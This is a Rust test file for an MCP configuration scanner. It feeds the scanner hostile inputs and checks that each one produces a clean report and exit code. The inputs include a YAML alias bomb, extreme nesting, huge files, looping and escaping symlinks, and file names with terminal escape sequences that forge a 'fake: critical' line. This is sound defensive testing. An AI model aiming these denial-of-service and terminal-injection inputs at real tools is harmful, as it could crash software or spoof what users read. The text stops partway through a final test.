//! Files that are broken, enormous or malicious: each gives a clear word and an exit code, none a
//! panic, a hang or a machine out of memory.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::print_stdout,
    reason = "a test that cannot go on fails"
)]

mod support;

use std::time::{Duration, Instant};

use serde_json::Value;
use support::run::{Ran, World};

/// Address space in kilobytes that is plenty for any file within the limits.
const PLENTY: usize = 1_500_000;

const GOOD: &str = r#"{"mcpServers":{"good":{"command":"npx","args":["-y","good-mcp"]}}}"#;

/// Scans `.mcp.json` of these bytes within bounded memory, the report as JSON.
fn scanned(file: &str, bytes: &[u8]) -> Ran {
    let world = World::new();
    world.bytes(file, bytes);
    json(&world)
}

fn json(world: &World) -> Ran {
    world.run_within(PLENTY, &["scan", "--format", "json", "."])
}

/// What is said about things that were not understood: message, line, column.
fn gaps(ran: &Ran) -> Vec<(String, u64, u64)> {
    let json = ran.json();
    let findings = json["findings"].as_array().unwrap().iter();
    findings
        .filter(|finding| finding["rule"] == "incomplete-analysis")
        .map(|finding| {
            let start = &finding["span"]["start"];
            let message = finding["message"].as_str().unwrap().to_owned();
            (message, start["line"].as_u64().unwrap(), start["column"].as_u64().unwrap())
        })
        .collect()
}

/// The names of all servers.
fn servers(ran: &Ran) -> Vec<String> {
    let json = ran.json();
    let files = json["files"].as_array().unwrap().iter();
    files
        .flat_map(|file| file["servers"].as_array().unwrap())
        .map(|server| server["name"].as_str().unwrap().to_owned())
        .collect()
}

fn status(ran: &Ran) -> Vec<String> {
    let json = ran.json();
    let files = json["files"].as_array().unwrap().iter();
    files.map(|file| file["status"].as_str().unwrap().to_owned()).collect()
}

/// Fails unless the analysis was incomplete, for a reason that holds this word.
#[track_caller]
fn incomplete(ran: &Ran, word: &str) -> (String, u64, u64) {
    ran.ended(3);
    let gaps = gaps(ran);
    let found = gaps.iter().find(|(message, ..)| message.contains(word));
    found.unwrap_or_else(|| panic!("no {word:?} in {gaps:?}")).clone()
}

#[test]
fn an_empty_file() {
    for text in ["", " \n\t\n", "\u{feff}"] {
        incomplete(&scanned(".mcp.json", text.as_bytes()), "empty");
    }
    for file in ["librechat.yaml", ".codex/config.toml"] {
        let world = World::new();
        world.bytes(file, b"");
        let ran = world.run(&["scan", "--format", "json", file]);
        incomplete(&ran, "empty");
    }
}

#[test]
fn null_and_scalars_and_lists_at_the_root() {
    scanned(".mcp.json", b"null").ended(0);
    scanned(".mcp.json", b"[]").ended(0);
    for text in ["17", "true", "\"text\"", "[1, 2]", "[null]", "{\"mcpServers\": 17}"] {
        let ran = scanned(".mcp.json", text.as_bytes());
        let (_, line, column) = incomplete(&ran, "server");
        assert!(line == 1 && column >= 1, "{text}");
    }
    let ran = scanned(".mcp.json", br#"{"mcpServers": {"a": null, "b": [], "c": 1, "d": {}}}"#);
    let gaps = gaps(ran.ended(3));
    assert_eq!(gaps.len(), 4, "{gaps:?}");
}

#[test]
fn a_file_of_100_mb() {
    let world = World::new();
    let file = std::fs::File::create(world.work(".mcp.json")).unwrap();
    file.set_len(100 << 20).unwrap();
    let ran = world.run_within(300_000, &["scan", "--format", "json", "."]);
    incomplete(&ran, "limit");
    assert_eq!(status(&ran), ["failed"]);
    let ran = world.run_within(300_000, &["scan", "."]);
    ran.ended(3).says(&["incomplete-analysis", ".mcp.json"]);
}

#[test]
fn standard_input_over_the_limit() {
    let world = World::new();
    let ran = world.run_with(&["scan", "--format", "json", "-"], &vec![b' '; 9 << 20]);
    incomplete(&ran, "limit");
    assert_eq!(status(&ran), ["failed"]);
}

#[test]
fn nesting_a_hundred_thousand_deep() {
    let deep = 100_000;
    let arrays = "[".repeat(deep);
    let objects = "{\"a\":".repeat(deep);
    let cases = [
        (".mcp.json", format!("{{\"mcpServers\": {arrays}{}}}", "]".repeat(deep))),
        (".mcp.json", format!("{objects}1{}", "}".repeat(deep))),
        (".mcp.json", arrays.clone()),
        (".mcp.json", objects.clone()),
        (".mcp.json", "[{\"a\":".repeat(deep)),
        (".vscode/mcp.json", format!("{{\"servers\": {arrays}")),
        ("librechat.yaml", format!("mcpServers: {arrays}{}", "]".repeat(deep))),
        ("librechat.yaml", format!("mcpServers: {arrays}")),
        ("librechat.yaml", format!("mcpServers: {}", "{a: ".repeat(deep))),
        ("librechat.yaml", format!("mcpServers:\n  {}", "- ".repeat(deep))),
        ("librechat.yaml", format!("mcpServers: {}", "? ".repeat(deep))),
        (".codex/config.toml", format!("mcp_servers = {arrays}{}", "]".repeat(deep))),
        (".codex/config.toml", format!("mcp_servers = {}", "{a=".repeat(deep))),
        (".codex/config.toml", format!("[mcp_servers{}]", ".a".repeat(deep))),
        (".codex/config.toml", format!("mcp_servers{} = 1", ".a".repeat(deep))),
        (".github/agents/a.md", format!("---\nmcp-servers: {arrays}\n---\n")),
    ];
    for (file, text) in cases {
        let start = Instant::now();
        let ran = scanned(file, text.as_bytes());
        let head: String = text.chars().take(30).collect();
        assert_eq!(ran.code, Some(3), "{file} {head}: {}", ran.stderr);
        assert!(!gaps(&ran).is_empty(), "{file} {head}");
        assert!(start.elapsed() < Duration::from_secs(10), "{file} {head}: {:?}", start.elapsed());
    }
}

#[test]
fn a_yaml_alias_bomb() {
    let mut text = "mcpServers:\n  a: &a0 {command: x, args: [x,x,x,x,x,x,x,x,x]}\n".to_owned();
    for level in 1..30 {
        let before = format!("*a{}, ", level - 1).repeat(9);
        text.push_str(&format!("  b{level}: &a{level} [{before}]\n"));
    }
    incomplete(&scanned("librechat.yaml", text.as_bytes()), "alias");
    incomplete(&scanned("librechat.yaml", b"mcpServers: &a\n  b: *a\n"), "");
    let merge = "mcpServers: &a\n  <<: *a\n  b: {command: x}\n";
    let ran = scanned("librechat.yaml", merge.as_bytes());
    assert!([Some(0), Some(3)].contains(&ran.code), "{:?}", ran.code);
}

#[test]
fn what_is_no_text() {
    for (bytes, word) in [
        (&b"\xff\xfe{\0\"\0\x00\xd8"[..], "UTF-16"),
        (b"\xff\xfe{", "UTF-16"),
        (b"\x7fELF\x02\x01\x01\0\0", "null character"),
    ] {
        let ran = scanned(".mcp.json", bytes);
        let (message, ..) = incomplete(&ran, word);
        assert!(message.contains("byte"), "{message}");
        assert_eq!(status(&ran), ["failed"]);
    }
}

#[test]
fn text_with_damage_in_it() {
    let good = GOOD.as_bytes();
    for (damage, word) in [
        (&b"\0"[..], "byte 19 is a null character"),
        (b"\xff", "not valid UTF-8 at byte 19"),
        (b"\xf0\x9f", "not valid UTF-8 at byte 19"),
    ] {
        let bytes = [&good[..18], damage, &good[18..]].concat();
        let ran = scanned(".mcp.json", &bytes);
        let (_, line, column) = incomplete(&ran, word);
        assert_eq!((line, column), (1, 19));
        assert_eq!(status(&ran), ["partial"]);
        assert_eq!(servers(&ran).len(), 1);
        assert!(ran.stdout.contains("unpinned-package"), "{}", ran.stdout);
    }
}

#[test]
fn what_the_user_names_and_is_no_configuration() {
    let world = World::new();
    world
        .bytes("claude_desktop_config.json", br#"{"mcpServers":{"a":"npx -y foo"}}"#)
        .bytes("list/claude_desktop_config.json", br#"{"mcpServers":[{"command":"npx"}]}"#)
        .bytes("my.json", br#"{"mcpServers":{"a":"npx -y foo"}}"#)
        .bytes("number.json", br#"{"mcpServers":7}"#)
        .bytes("page.html", b"<!DOCTYPE html>\n<html><body>404</body></html>\n")
        .bytes("readme.md", b"# Title\n\nText.\n")
        .bytes("null.json", b"null")
        .bytes(".cursor/mcp.json", b"null")
        .bytes("package.json", br#"{"name":"x"}"#);
    for file in [
        "claude_desktop_config.json",
        "list/claude_desktop_config.json",
        "my.json",
        "number.json",
        "page.html",
        "readme.md",
        "null.json",
        ".cursor/mcp.json",
        "package.json",
    ] {
        let ran = world.run(&["scan", "--format", "json", file]);
        assert_eq!(ran.code, Some(3), "{file}: {}", ran.stdout);
        assert!(!gaps(&ran).is_empty(), "{file}");
    }
    for text in ["hello", "null", "<html></html>", "[]"] {
        let ran = world.run_with(&["scan", "-"], text.as_bytes());
        assert_eq!(ran.code, Some(3), "{text}: {}", ran.stdout);
    }
    let forced = world.run(&["scan", "--client", "cursor", "package.json"]);
    forced.ended(3).says(&["nothing in it is known to be MCP configuration"]);
    for text in ["{}", r#"{"mcpServers": {}}"#, r#"{"mcpServers": []}"#] {
        world.run_with(&["scan", "-"], text.as_bytes()).ended(0);
    }
    world.bytes("opencode.json", br#"{"theme": "x"}"#);
    world.run(&["scan", "opencode.json"]).ended(0);
}

#[test]
fn a_clients_own_folder_and_a_file_in_it() {
    let world = World::new();
    world.bytes("proj/.kiro/settings/mcp.json", GOOD.as_bytes());
    let client = |ran: &Ran| {
        let json = ran.ended(0).json();
        (json["files"][0]["client"].clone(), json["files"][0]["path"].clone())
    };
    let ran = world.run(&["scan", "--format", "json", "proj/.kiro/settings"]);
    assert_eq!(client(&ran), ("kiro".into(), "proj/.kiro/settings/mcp.json".into()));
    for (below, path, shown) in [
        ("proj/.kiro", ".", "settings/mcp.json"),
        ("proj/.kiro/settings", ".", "mcp.json"),
        ("proj/.kiro/settings", "mcp.json", "mcp.json"),
        ("proj/.kiro/settings", "./", "./mcp.json"),
    ] {
        let mut command = world.command(&["scan", "--format", "json", path]);
        command.current_dir(world.work(below));
        let ran = support::run::finish(command, b"");
        assert_eq!(client(&ran).0, "kiro", "{below} {path}");
        assert!(shown.ends_with(client(&ran).1.as_str().unwrap()), "{below} {path}");
    }
}

#[test]
fn what_is_included_below_what_is_left_out() {
    let world = World::new();
    for file in ["", "foo/", "foo/lib/", "foo/node_modules/x/", "bar/", "@s/p/"] {
        world.bytes(&format!("node_modules/{file}.mcp.json"), GOOD.as_bytes());
    }
    world.bytes("deep/node_modules/foo/.mcp.json", GOOD.as_bytes());
    let files = |include: &[&str]| -> Vec<String> {
        let mut args = vec!["scan", "--format", "json", "."];
        args.extend(include.iter().flat_map(|pattern| ["--include", pattern]));
        let json = world.run(&args).ended(0).json();
        let files = json["files"].as_array().unwrap().iter();
        files.map(|file| file["path"].as_str().unwrap().to_owned()).collect()
    };
    assert_eq!(files(&[]), [""; 0]);
    let foo = ["node_modules/foo/.mcp.json", "node_modules/foo/lib/.mcp.json"];
    assert_eq!(files(&["node_modules/foo"]), foo);
    assert_eq!(files(&["node_modules/foo/"]), foo);
    assert_eq!(files(&["node_modules/@s/*"]), ["node_modules/@s/p/.mcp.json"]);
    assert_eq!(files(&["node_modules/foo/.mcp.json"]), ["node_modules/foo/.mcp.json"]);
    let all = files(&["node_modules/foo/**"]);
    assert!(foo.iter().all(|file| all.iter().any(|found| found == file)), "{all:?}");
    assert!(all.iter().all(|file| file.starts_with("node_modules/foo/")), "{all:?}");
    assert_eq!(files(&["node_modules"]).len(), 7);
}

#[test]
fn a_program_alone_under_a_telling_key_in_a_file_of_any_name() {
    let world = World::new();
    world.bytes("my.json", br#"{"mcpServers":{"a":{"command":"sudo"}}}"#);
    let ran = world.run(&["scan", "--format", "json", "my.json"]);
    assert_eq!(servers(&ran), ["a"]);
}

#[test]
fn standard_input_in_any_encoding_and_format() {
    let toml = "[mcp_servers.a]\ncommand = 'a-mcp'\n";
    let units = |order: fn(u16) -> [u8; 2]| -> Vec<u8> {
        format!("\u{feff}{toml}").encode_utf16().flat_map(order).collect()
    };
    for bytes in [
        toml.as_bytes().to_vec(),
        format!("\u{feff}{toml}").into_bytes(),
        units(u16::to_le_bytes),
        units(u16::to_be_bytes),
    ] {
        let world = World::new();
        let ran = world.run_with(&["scan", "--format", "json", "-"], &bytes);
        assert_eq!(servers(ran.ended(0)), ["a"]);
    }
}

#[test]
fn standard_input_has_no_place() {
    let world = World::new();
    world.bytes(".vscode/x", b"");
    for below in ["", ".vscode"] {
        let mut command = world.command(&["scan", "--format", "json", "-"]);
        command.current_dir(world.work(below));
        let ran = support::run::finish(command, br#"{"theme": "x"}"#);
        incomplete(&ran, "nothing in it is known");
        assert_eq!(ran.json()["files"][0]["client"], "unknown");
    }
}

#[test]
fn a_broken_file_of_the_user_that_speaks_of_nothing() {
    let world = World::new();
    world.home_file(".gemini/settings.json", "{\"theme\": \"x\",, \"a\" [1");
    let ran = world.run(&["scan", "--format", "json"]);
    assert_eq!(status(ran.ended(3)), ["partial"]);
}

#[test]
fn a_file_that_is_empty_is_still_its_clients() {
    let ran = scanned(".mcp.json", b"");
    assert_eq!(ran.json()["files"][0]["client"], "claude-code");
    assert_eq!(ran.json()["files"][0]["scope"], "project");
}

#[test]
fn utf_16_and_byte_order_marks() {
    let units = |text: &str, order: fn(u16) -> [u8; 2]| -> Vec<u8> {
        format!("\u{feff}{text}").encode_utf16().flat_map(order).collect()
    };
    let text = "{\"mcpServers\":{\"gärten\":{\"command\":\"npx\",\"args\":[\"-y\",\"some-mcp\"]}}}";
    let column = text.chars().collect::<String>().split("some").next().unwrap().chars().count();
    let encodings = [
        text.as_bytes().to_vec(),
        format!("\u{feff}{text}").into_bytes(),
        units(text, u16::to_le_bytes),
        units(text, u16::to_be_bytes),
    ];
    for (bytes, mark) in encodings.iter().zip([0, 3, 2, 2]) {
        let ran = scanned(".mcp.json", bytes);
        assert_eq!(servers(ran.ended(0)), ["gärten"]);
        let json = ran.json();
        let finding = json["findings"].as_array().unwrap().iter();
        let finding = finding.clone().find(|f| f["rule"] == "unpinned-package").unwrap();
        assert_eq!(finding["span"]["start"]["line"], 1);
        assert_eq!(finding["span"]["start"]["column"], column + 1);
        let at = finding["span"]["bytes"][0].as_u64().unwrap();
        let before = text.split("some").next().unwrap();
        let wanted = if mark == 2 { 2 * column } else { before.len() } + mark;
        assert_eq!(at, wanted as u64);
    }
}

#[test]
fn windows_line_ends() {
    let text = GOOD.replace("\"args\"", "\r\n  \"args\"");
    let ran = scanned(".mcp.json", text.as_bytes());
    let json = ran.ended(0).json();
    let findings = json["findings"].as_array().unwrap();
    let start =
        &findings.iter().find(|f| f["rule"] == "unpinned-package").unwrap()["span"]["start"];
    assert_eq!((&start["line"], &start["column"]), (&2.into(), &17.into()));
    let world = World::new();
    world.bytes(".mcp.json", text.as_bytes());
    assert!(!world.run(&["scan", "."]).ended(0).stdout.contains('\r'));
    let yaml = "mcpServers:\r\n  a:\r\n    command: npx\r\n    args: [a-mcp]\r\n";
    assert_eq!(servers(&scanned("librechat.yaml", yaml.as_bytes())), ["a"]);
}

#[test]
fn equal_keys() {
    let text =
        r#"{"mcpServers":{"a":{"command":"/bin/a"},"a":{"command":"/bin/b","command":"/bin/c"}}}"#;
    let ran = scanned(".mcp.json", text.as_bytes());
    assert_eq!(servers(ran.ended(0)), ["a", "a", "a"]);
    let gaps = gaps(&ran);
    assert_eq!(gaps.len(), 2, "{gaps:?}");
    assert_eq!(gaps[0].2, 41);
}

#[cfg(unix)]
mod unix {
    use std::os::unix::fs::{PermissionsExt, symlink};
    use std::path::Path;
    use std::process::Command;

    use super::*;

    fn unreadable(path: &Path) -> bool {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o000)).unwrap();
        let denied = std::fs::File::open(path).is_err() && std::fs::read_dir(path).is_err();
        if !denied {
            println!("skipped: this user may read {}, whatever its mode", path.display());
        }
        denied
    }

    #[test]
    fn a_file_and_a_directory_without_permission() {
        let world = World::new();
        world.bytes(".mcp.json", GOOD.as_bytes()).bytes("dir/.mcp.json", GOOD.as_bytes());
        if unreadable(&world.work(".mcp.json")) {
            incomplete(&json(&world), "permission");
        }
        if unreadable(&world.work("dir")) {
            let ran = json(&world);
            let json = ran.ended(3).json();
            assert!(json["files"].as_array().unwrap().iter().any(|file| file["path"] == "dir"));
        }
        std::fs::set_permissions(world.work("dir"), PermissionsExt::from_mode(0o700)).unwrap();
    }

    #[test]
    fn a_directory_with_the_name_of_a_file() {
        let world = World::new();
        world.bytes("mcp.json/x", b"");
        incomplete(&json(&world), "directory");
        // Inside of it the walk goes on.
        world.bytes("mcp.json/.mcp.json", GOOD.as_bytes());
        assert_eq!(servers(&json(&world)), ["good"]);
    }

    #[test]
    fn symbolic_links_that_lead_nowhere_or_out_or_round() {
        let dangling = World::new();
        symlink("absent.json", dangling.work(".mcp.json")).unwrap();
        incomplete(&json(&dangling), "target does not exist");
        let named = dangling.run(&["scan", "--format", "json", ".mcp.json"]);
        incomplete(&named, "");

        let circle = World::new();
        symlink(".mcp.json", circle.work("mcp.json")).unwrap();
        symlink("mcp.json", circle.work(".mcp.json")).unwrap();
        incomplete(&json(&circle), "link");

        let out = World::new();
        std::fs::write(out.outside("secret.json"), GOOD).unwrap();
        symlink("../secret.json", out.work(".mcp.json")).unwrap();
        let ran = json(&out);
        incomplete(&ran, "leads out of the scanned tree");
        assert_eq!(servers(&ran), [""; 0], "it was not followed");
        // As the message says: what the user names is followed.
        let named = out.run(&["scan", "--format", "json", ".mcp.json"]);
        assert_eq!(servers(named.ended(0)), ["good"]);
        for both in [["../secret.json", "."], [".", "../secret.json"], [".", ".mcp.json"]] {
            let ran = out.run(&["scan", "--format", "json", both[0], both[1]]);
            assert_eq!(servers(&ran), ["good"], "{both:?}");
        }
    }

    #[test]
    fn symbolic_links_within_the_tree_are_followed_once() {
        let world = World::new();
        world.bytes("shared/servers.json", GOOD.as_bytes());
        symlink("shared/servers.json", world.work(".mcp.json")).unwrap();
        assert_eq!(servers(json(&world).ended(0)), ["good"]);
        symlink("../shared/servers.json", world.work("shared/mcp.json")).unwrap();
        assert_eq!(servers(json(&world).ended(0)), ["good"], "one file, one report");
        symlink("..", world.work("shared/round")).unwrap();
        assert_eq!(servers(json(&world).ended(0)), ["good"]);
    }

    #[test]
    fn linked_directories_of_the_tree_are_walked_under_their_own_names() {
        let world = World::new();
        world.bytes("shared/mcp.json", br#"{"servers":{"good":{"command":"a-mcp"}}}"#);
        symlink("shared", world.work(".vscode")).unwrap();
        let ran = json(&world);
        assert_eq!(servers(ran.ended(0)), ["good"]);
        let json = ran.json();
        assert_eq!(json["files"][0]["path"], ".vscode/mcp.json");
        assert_eq!(json["files"][0]["client"], "vscode");
    }

    #[test]
    fn linked_directories_that_lead_round() {
        let world = World::new();
        world.bytes("a/.mcp.json", GOOD.as_bytes()).bytes("b/x", b"");
        for (target, link) in [
            ("..", "a/up"),
            (".", "a/here"),
            ("../b", "a/there"),
            ("../a", "b/back"),
            ("../b", "b/self"),
            ("a", "again"),
            ("b", "once more"),
        ] {
            symlink(target, world.work(link)).unwrap();
        }
        assert_eq!(servers(json(&world).ended(0)), ["good"]);
        // Many that lead to each other are no more than many.
        let world = World::new();
        for from in 0..12 {
            world.bytes(&format!("d{from}/.mcp.json"), GOOD.as_bytes());
            for to in 0..12 {
                symlink(format!("../d{to}"), world.work(&format!("d{from}/l{to}"))).unwrap();
            }
        }
        let start = Instant::now();
        assert_eq!(servers(json(&world).ended(0)).len(), 12);
        assert!(start.elapsed() < Duration::from_secs(10));
    }

    #[test]
    fn linked_directories_that_lead_out() {
        let world = World::new();
        std::fs::create_dir_all(world.outside("elsewhere")).unwrap();
        std::fs::write(world.outside("elsewhere/mcp.json"), GOOD).unwrap();
        symlink("../elsewhere", world.work("build")).unwrap();
        json(&world).ended(0);
        symlink("../elsewhere", world.work(".cursor")).unwrap();
        let ran = json(&world);
        incomplete(&ran, "leads out of the scanned tree");
        assert_eq!(servers(&ran), [""; 0]);
        let named = world.run(&["scan", "--format", "json", ".cursor"]);
        assert_eq!(servers(named.ended(0)), ["good"]);
        assert_eq!(named.json()["files"][0]["client"], "cursor");
    }

    #[test]
    fn a_pipe_that_nobody_writes_to() {
        let world = World::new();
        let made = Command::new("mkfifo").arg(world.work(".mcp.json")).status();
        if !made.is_ok_and(|status| status.success()) {
            println!("skipped: there is no mkfifo");
            return;
        }
        incomplete(&json(&world), "pipe");
        let named = world.run(&["scan", "--format", "json", ".mcp.json"]);
        incomplete(&named, "pipe");
    }

    const SECRET: &str = r#"{"mcpServers":{"g":{"command":"/bin/g","env":{"GITHUB_TOKEN":"{{secret:github-pat}}"}}}}"#;

    /// How severe the findings in the working directory are.
    fn severity(world: &World) -> String {
        let json = world.run_within(PLENTY, &["scan", "--format", "json", "."]).json();
        let findings = json["findings"].as_array().unwrap();
        let secret = findings.iter().find(|finding| finding["rule"] == "secret-in-env");
        secret.expect("the token is found")["severity"].as_str().unwrap().to_owned()
    }

    #[test]
    fn repositories_that_are_pipes_and_devices() {
        let pipe = |path: &Path| {
            let made = Command::new("mkfifo").arg(path).status();
            made.is_ok_and(|status| status.success())
        };
        for name in [".git", ".git/index", ".git/sharedindex.00"] {
            let world = World::new();
            world.file(".mcp.json", SECRET);
            if name != ".git" {
                std::fs::create_dir(world.work(".git")).unwrap();
                world.bytes(".git/index", b"DIRC");
                drop(std::fs::remove_file(world.work(name)));
            }
            if !pipe(&world.work(name)) {
                println!("skipped: there is no mkfifo");
                return;
            }
            assert!(!severity(&world).is_empty(), "{name}");
        }
        for (name, target) in [(".git", "/dev/zero"), (".git/index", "/dev/zero")] {
            let world = World::new();
            world.file(".mcp.json", SECRET);
            if name != ".git" {
                std::fs::create_dir(world.work(".git")).unwrap();
            }
            symlink(target, world.work(name)).unwrap();
            assert!(!severity(&world).is_empty(), "{name}");
        }
        let world = World::new();
        world.file(".mcp.json", SECRET).bytes(".git", &[b'g'; 1 << 20]);
        assert!(!severity(&world).is_empty());
    }

    #[test]
    fn a_file_in_conflict_is_tracked() {
        let world = World::new();
        world.file(".mcp.json", SECRET);
        let alone = severity(&world);
        // Version 2, three entries for one path, at stages 1 to 3; the checksum may be left out.
        let mut index = b"DIRC\0\0\0\x02\0\0\0\x03".to_vec();
        for stage in 1..=3_u16 {
            let name = b".mcp.json";
            let start = index.len();
            index.extend([0; 24]);
            index.extend(0o100_644_u32.to_be_bytes());
            index.extend([0; 12]);
            index.extend([7; 20]);
            index.extend((stage << 12 | 9).to_be_bytes());
            index.extend(name);
            let length = index.len() - start;
            index.resize(start + (length / 8 + 1) * 8, 0);
        }
        index.extend([0; 20]);
        world.bytes(".git/index", &index);
        assert_ne!(severity(&world), alone);
    }

    #[test]
    fn a_device() {
        let world = World::new();
        symlink("/dev/zero", world.work(".mcp.json")).unwrap();
        incomplete(&json(&world), "link");
        let named = world.run_within(PLENTY, &["scan", "--format", "json", "/dev/zero"]);
        incomplete(&named, "device");
    }

    #[test]
    fn names_of_files_that_speak_to_the_terminal() {
        use std::os::unix::ffi::OsStrExt;
        let world = World::new();
        for name in ["a\nb", "c\u{1b}[31md", "e\u{202e}f", "g\rh", "i\u{9b}31mj"] {
            world.bytes(&format!("{name}/.mcp.json"), GOOD.as_bytes());
        }
        let odd = world.work("").join(std::ffi::OsStr::from_bytes(b"k\xffl"));
        if std::fs::create_dir(&odd).is_ok() {
            std::fs::write(odd.join(".mcp.json"), GOOD).unwrap();
            std::fs::create_dir_all(world.work(".github/agents")).unwrap();
            let agent = std::ffi::OsStr::from_bytes(b"\xff.md");
            let text = "---\nname: a\nmcp-servers: {b: {command: b-mcp}}\n---\n";
            std::fs::write(world.work(".github/agents").join(agent), text).unwrap();
            let ran = json(&world);
            assert_eq!(servers(ran.ended(0)).len(), 7);
        }
        harmless(&world.run(&["scan", "-v", "."]).ended(0).stdout);
        harmless(&world.run(&["scan", "-v", "absent\u{1b}[31m\nx"]).ended(2).stderr);
    }
}

/// Fails if a text could move the cursor, change colours or reorder itself.
#[track_caller]
fn harmless(text: &str) {
    let hostile = |c: &char| {
        c.is_control() && *c != '\n' || ('\u{202a}'..='\u{202e}').contains(c) || *c == '\u{feff}'
    };
    let bad: Vec<String> = text
        .lines()
        .filter(|line| line.chars().any(|c| hostile(&c)))
        .map(|l| format!("{l:?}"))
        .collect();
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

#[test]
fn names_and_values_that_speak_to_the_terminal() {
    let evil = "x\u{1b}[31m\u{1b}]0;t\u{7}\nfake: critical\r\u{9b}2J\u{202e}\u{0}";
    let escaped = serde_json::to_string(evil).unwrap();
    let raw = escaped.replace("\\u001b", "\u{1b}").replace("\\u0007", "\u{7}");
    for value in [&escaped, &raw] {
        let text = format!(
            r#"{{"mcpServers":{{{value}:{{"command":{value},"args":["-y",{value},"--token",{value}],"env":{{{value}:{value},"TOKEN":{value}}},"unknown":{value}}},
            "b":{{"command":"npx","args":["-y",{value}]}},
            "c":{{"type":{value},"url":{value},"headers":{{{value}:{value}}}}},
            "d":{{"command":"docker","args":["run","-v",{value},{value}]}},
            "e":{{"command":"sh","args":["-c",{value}]}},
            "f":{{"url":"http://mcp.contoso.com/?a"}},{value}:17,{value}:18}}}}"#
        );
        let world = World::new();
        world.bytes(".mcp.json", text.as_bytes());
        let args = ["scan", "-v", "--persona", "auditor", "--min-severity", "info", "."];
        let ran = world.run(&args);
        assert!(ran.stdout.lines().count() > 20, "{}", ran.stdout);
        harmless(&ran.stdout);
        harmless(&ran.stderr);
        // No line of the report is the file's own invention.
        assert!(!ran.stdout.lines().any(|line| line.starts_with("fake:")), "{}", ran.stdout);
        let json = world.run(&["scan", "--format", "json", "."]).json();
        let names: Vec<&Value> = json["files"][0]["servers"].as_array().unwrap().iter().collect();
        assert!(names.len() >= 6, "{json:#}");
    }
}

#[test]
fn the_json_report_keeps_names_as_they_are() {
    let name = "a\u{7f}b\u{9b}c\u{1b}[31md\n\u{202e}\u{fffd}";
    let text = serde_json::json!({ "mcpServers": { name: { "command": "/bin/a" } } });
    let ran = scanned(".mcp.json", text.to_string().as_bytes());
    assert_eq!(servers(ran.ended(0)), [name]);
}

#[test]
fn a_file_that_changes_while_it_is_read() {
    let world = World::new();
    let path = world.work(".mcp.json");
    std::fs::write(&path, GOOD).unwrap();
    let (stop, stopped) = std::sync::mpsc::channel::<()>();
    let writer = std::thread::spawn(move || {
        let mut size = 1;
        while stopped.try_recv() == Err(std::sync::mpsc::TryRecvError::Empty) {
            let padded = GOOD.to_owned() + &" ".repeat(size % 100_000);
            std::fs::write(&path, padded).unwrap();
            size = (size * 7 + 1) % 1_000_003;
        }
    });
    for _ in 0..20 {
        let ran = world.run(&["scan", "."]);
        assert!([Some(0), Some(3)].contains(&ran.code), "{ran:?}");
    }
    drop(stop);
    writer.join().unwrap();
    assert_eq!(servers(json(&world).ended(0)), ["good"]);
}

#[test]
fn fifty_thousand_servers_in_one_file() {
    let mut text = String::from("{\"mcpServers\":{");
    for number in 0..50_000 {
        let comma = if number == 0 { "" } else { "," };
        text.push_str(&format!(
            "{comma}\"s{number}\":{{\"command\":\"npx\",\"args\":[\"-y\",\"p{number}\"],\"env\":{{\"K\":\"v\"}}}}"
        ));
    }
    text.push_str("}}");
    // Positions in one long line must not be counted from its start each time.
    let world = World::new();
    world.bytes(".mcp.json", text.as_bytes());
    let ran = json(&world);
    let (_, summary) = ran.ended(0).stdout.rsplit_once("\"summary\"").unwrap();
    assert!(summary.contains("\"servers\": 50000"), "{summary}");
    assert!(summary.contains("\"medium\": 50000"), "{summary}");
}

#[test]
fn the_text_report_of_ten_thousand_servers() {
    let entry =
        |number: usize| format!("\"s{number}\":{{\"command\":\"npx\",\"args\":[\"p{number}\"]}}");
    let entries: Vec<String> = (0..10_000).map(entry).collect();
    let world = World::new();
    world.bytes(".mcp.json", format!("{{\"mcpServers\":{{{}}}}}", entries.join(",")).as_bytes());
    let ran = world.run_within(PLENTY, &["scan", "."]);
    ran.ended(0).says(&["10000 servers in 1 file"]);
    assert!(ran.stdout.len() < 10_000_000, "{}", ran.stdout.len());
}

#[test]
fn a_single_line_of_5_mb() {
    let padding = "x".repeat(5 << 20);
    let text = format!(
        r#"{{"note":"{padding}","mcpServers":{{"a":{{"command":"npx","args":["-y","a-mcp"]}}}}}}"#
    );
    let world = World::new();
    world.bytes(".mcp.json", text.as_bytes());
    let ran = world.run_within(PLENTY, &["scan", "."]);
    ran.ended(0)
        .says(&["unpinned-package", &format!(".mcp.json:1:{}", text.find("a-mcp").unwrap() + 1)]);
    assert!(ran.stdout.len() < 10_000, "{}", ran.stdout.len());
    // Cut off in the middle of a word that long.
    let unclosed = format!(r#"{{"mcpServers":{{"a":{{"command":"{padding}"#);
    world.bytes(".mcp.json", unclosed.as_bytes());
    let ran = world.run_within(PLENTY, &["scan", "."]);
    ran.ended(3);
    assert!(ran.stdout.len() < 10_000, "{}", ran.stdout.len());
}

#[test]
fn a_hundred_thousand_files() {
    let world = World::in_memory();
    for directory in 0..500 {
        let place = world.work(&format!("d{directory}/src"));
        std::fs::create_dir_all(&place).unwrap();
        for file in 0..196 {
            std::fs::File::create(place.join(format!("f{file}.rs"))).unwrap();
        }
        for file in ["mcp.json", ".mcp.json", "opencode.json", ".cursor/mcp.json"] {
            world.bytes(
                &format!("d{directory}/{file}"),
                GOOD.replace("good", &format!("s{directory}")).as_bytes(),
            );
        }
    }
    let start = Instant::now();
    let ran = world.run_within(PLENTY, &["scan", "--format", "json", "."]);
    let seconds = start.elapsed();
    let summary = &ran.json()["summary"];
    assert_eq!(summary["files"], 2_000, "{summary}");
    assert_eq!(summary["servers"], 2_000, "{summary}");
    assert!(seconds < Duration::from_secs(20), "{seconds:?}");
}

/// The gaps of one file that is named.
fn named(file: &str, text: &str) -> Vec<(String, u64, u64)> {
    let world = World::new();
    world.bytes(file, text.as_bytes());
    let ran = world.run_within(PLENTY, &["scan", "--format", "json", file]);
    gaps(ran.ended(3))
}

#[test]
fn a_long_text_with_three_thousand_aliases() {
    let long = "x".repeat(1 << 20);
    let text = format!(
        "mcpServers:\n  a: {{command: /bin/a, args: [&a \"{long}\"]}}\n  b: {{command: /bin/b, args: [{}]}}\n",
        vec!["*a"; 3_000].join(", ")
    );
    incomplete(&scanned("librechat.yaml", text.as_bytes()), "alias");
}

#[test]
fn a_stream_of_twenty_thousand_documents() {
    assert_eq!(named("mcp.yaml", &"---\na: 1\n".repeat(20_000)).len(), 1);
